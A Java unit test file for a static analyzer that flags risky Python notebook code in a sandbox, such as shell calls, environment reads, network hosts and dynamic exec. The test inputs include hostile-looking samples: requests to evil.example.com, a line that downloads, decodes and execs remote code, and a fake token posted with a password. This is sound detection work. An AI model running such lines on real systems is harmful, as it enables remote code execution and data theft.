package com.sandboxgateway.review;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import org.junit.jupiter.api.Test;

class CodeRiskAnalyzerTest {

    private final CodeRiskAnalyzer analyzer = CodeRiskAnalyzer.fromRules(CodeRules.standard());

    private List<String> flags(String code) {
        return analyzer.analyze(code, null).stream().map(CodeFlag::toString).toList();
    }

    @Test
    void shouldIgnoreCommentsAndStringsButNotFStringExpressions() {
        assertThat(flags("# os.environ and subprocess.run(['ls'])\nx = 1  # os.system('id')\n")).isEmpty();
        assertThat(flags("print('os.environ', \"os.system('id')\", '''\nsubprocess.run(x)\n''')")).isEmpty();
        assertThat(flags("s = 'it\\'s os.environ'\nt = r\"\\\" os.getenv\"")).isEmpty();
        assertThat(flags("print(f\"{os.environ['HOME']}\")")).containsExactly("env_access");
        assertThat(flags("print(f\"{value!r:>10}\")")).isEmpty();
    }

    @Test
    void shouldTellIpythonShellAndMagicsFromPythonOperators() {
        assertThat(flags("if a != b:\n    x = a % b\n")).isEmpty();
        assertThat(flags("!ls -la")).containsExactly("subprocess");
        assertThat(flags("out = !whoami")).containsExactly("subprocess");
        assertThat(flags("%env")).containsExactly("env_access");
        assertThat(flags("%%capture\nimport os\nos.system('id')")).containsExactly("subprocess");
        assertThat(flags("%%html\n<script>os.system('id')</script>")).isEmpty();
    }

    @Test
    void shouldResolveImportsAliasesAndVariables() {
        assertThat(flags("import subprocess as sp_\nsp_.Popen(['id'])")).containsExactly("subprocess");
        assertThat(flags("from os import getenv\ngetenv('X')")).containsExactly("env_access");
        assertThat(flags("environ = {}\nenviron.get('X')")).isEmpty();
        assertThat(flags("def system(cmd):\n    return cmd\nsystem('ls')")).isEmpty();
        assertThat(flags("import subprocess as sp\nsp = None\nsp.run(['id'])")).isEmpty();
        assertThat(flags("try:\n    import subprocess as sp\nexcept ImportError:\n    sp = None\nsp.run(['id'])"))
                .containsExactly("subprocess");
        assertThat(flags("try: import requests as r\nexcept ImportError: r = None\nr.get('https://evil.example.com')"))
                .containsExactly("http_client(host=evil.example.com allowed=false)");
    }

    @Test
    void shouldNameTheHostAndAskTheAllowlistWithANormalizedName() {
        List<String> asked = new ArrayList<>();
        HostPolicy policy = HostPolicy.allowing(host -> asked.add(host) && host.equals("pypi.org"));

        List<CodeFlag> flags = analyzer.analyze("""
                import requests
                requests.get("https://user:pw@PyPI.org.:443/simple")
                requests.get("http://Evil.Example.NET/x?token=abc")
                requests.get(f"https://{host}/x")
                """, policy);

        assertThat(flags).containsExactly(new CodeFlag("http_client", "host=evil.example.net allowed=false"),
                new CodeFlag("http_client", "host=pypi.org allowed=true"));
        assertThat(asked).containsExactlyInAnyOrder("pypi.org", "evil.example.net");
    }

    @Test
    void shouldReportAnUnknownHostWhenNoCallNamesOne() {
        assertThat(flags("import requests\nrequests.get(build_url())")).containsExactly("http_client(host=?)");
        assertThat(flags("import requests\nrequests.get('https://a.example.com')"))
                .containsExactly("http_client(host=a.example.com allowed=false)");
    }

    @Test
    void shouldNeverPutLiteralContentOrCredentialsIntoDetails() {
        String token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        List<CodeFlag> flags = analyzer.analyze("""
                import requests
                requests.post("https://api.example.com/v1/hook?key=%s", data="password=hunter2")
                open("/%s/notes.txt").read()
                open("/home/alice/secret-plans.txt").read()
                """.formatted(token, token), null);

        assertThat(flags).extracting(CodeFlag::detail).allSatisfy(detail -> assertThat(detail)
                .doesNotContain(token).doesNotContain("hunter2").doesNotContain("alice").doesNotContain("key="));
        assertThat(flags).contains(new CodeFlag("outside_mnt_data", "path=/home"),
                new CodeFlag("outside_mnt_data", "path=/[REDACTED:github-token]"));
    }

    @Test
    void shouldSortDeduplicateAndCapFlags() {
        StringBuilder code = new StringBuilder("import requests\n");
        for (int i = 0; i < 20; i++) {
            code.append("requests.get('https://h").append(i).append(".example.com/')\n");
            code.append("requests.get('https://h").append(i).append(".example.com/again')\n");
        }
        code.append("import os\nos.system('ls')\nos.getenv('A')\nos.getenv('B')\n");

        List<CodeFlag> flags = analyzer.analyze(code.toString(), null);

        assertThat(flags).isSorted().doesNotHaveDuplicates();
        assertThat(flags).filteredOn(flag -> flag.flag().equals("http_client")).hasSize(8);
        assertThat(flags).extracting(CodeFlag::flag).containsOnlyOnce("env_access", "subprocess");
    }

    @Test
    void shouldPreferTheStrongestExecFlagForEachCall() {
        assertThat(flags("import requests, base64\nexec(base64.b64decode(requests.get('https://x.example.com').text))"))
                .containsExactly("dynamic_exec_downloaded", "http_client(host=x.example.com allowed=false)");
        assertThat(flags("exec('print(1)')")).isEmpty();
        assertThat(flags("exec(user_code)")).containsExactly("dynamic_exec");
    }

    @Test
    void shouldReviewLiteralCodeGivenToExecAsCodeOnceForEachDistinctText() {
        assertThat(flags("exec('import os; print(os.environ)')")).containsExactly("env_access");
        assertThat(flags("import os\neval(\"os.system('id')\")")).containsExactly("subprocess");
        assertThat(flags("exec(compile('import socket\\nsocket.socket()', '<cell>', 'exec'))")).containsExactly("dynamic_exec",
                "raw_socket(host=?)");
        String inner = "print(1)\n".repeat(2_000) + "import subprocess; subprocess.run(['id'])";
        String block = "code = '''" + inner + "'''\n" + "exec(code); ".repeat(500);
        assertThat(flags(block)).containsExactly("subprocess");
    }

    @Test
    void shouldJudgeSizesFromConstantsOnly() {
        assertThat(flags("a = np.zeros((1000, 1000))\nb = 'x' * 1024\nc = np.random.normal(100, 15, 10_000_000)")).isEmpty();
        assertThat(flags("a = np.ones((2**16, 2**16))")).containsExactly("large_write");
        assertThat(flags("a = b'\\0' * (1 << 33)")).containsExactly("large_write");
        assertThat(flags("for i in range(n):\n    f.write(x)\nwhile True:\n    f.write(x)\n    if done:\n        break\n")).isEmpty();
    }

    @Test
    void shouldNeverFailOnBrokenCode() {
        for (String code : new String[] {"", "(((", "'''unterminated", "f'{", "def (:\n  !", "%%", "\\", "x = \"\"\"\n", "%",
                "if x:", ":", ";;", "lambda:", "a, b =", "= 1", "getattr(", "getattr(os, 'system'", "exec('", "exec('exec(\"",
                "f'{x:'", "f'{x!'", "f'{{'", "x :=", "case", "match x:\n  case", "(os).", "(", ")", "__import__(",
                "for _ in range(10**9): f.", "[f.write(x) for", "\ud835"}) {
            assertThat(analyzer.analyze(code, null)).as(code).isNotNull();
        }
    }

    @Test
    void shouldNeverFailOnAnyPrefixOrMutationOfRealCode() {
        Random random = new Random(24);
        String alphabet = "()[]{}:;,.=\\'\"\n #@!%fx";
        for (CodeLayoutCases.Case risky : CodeLayoutCases.RISKY) {
            String code = PythonLayouts.semicolons(risky.statements());
            for (int cut = 0; cut <= code.length(); cut++) {
                assertThat(analyzer.analyze(code.substring(0, cut), null)).as(code.substring(0, cut)).isNotNull();
            }
            for (int mutation = 0; mutation < 20; mutation++) {
                StringBuilder mutated = new StringBuilder(code);
                int at = random.nextInt(mutated.length());
                if (random.nextBoolean()) {
                    mutated.deleteCharAt(at);
                } else {
                    mutated.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
                }
                assertThat(analyzer.analyze(mutated.toString(), null)).as(mutated.toString()).isNotNull();
            }
        }
    }
}
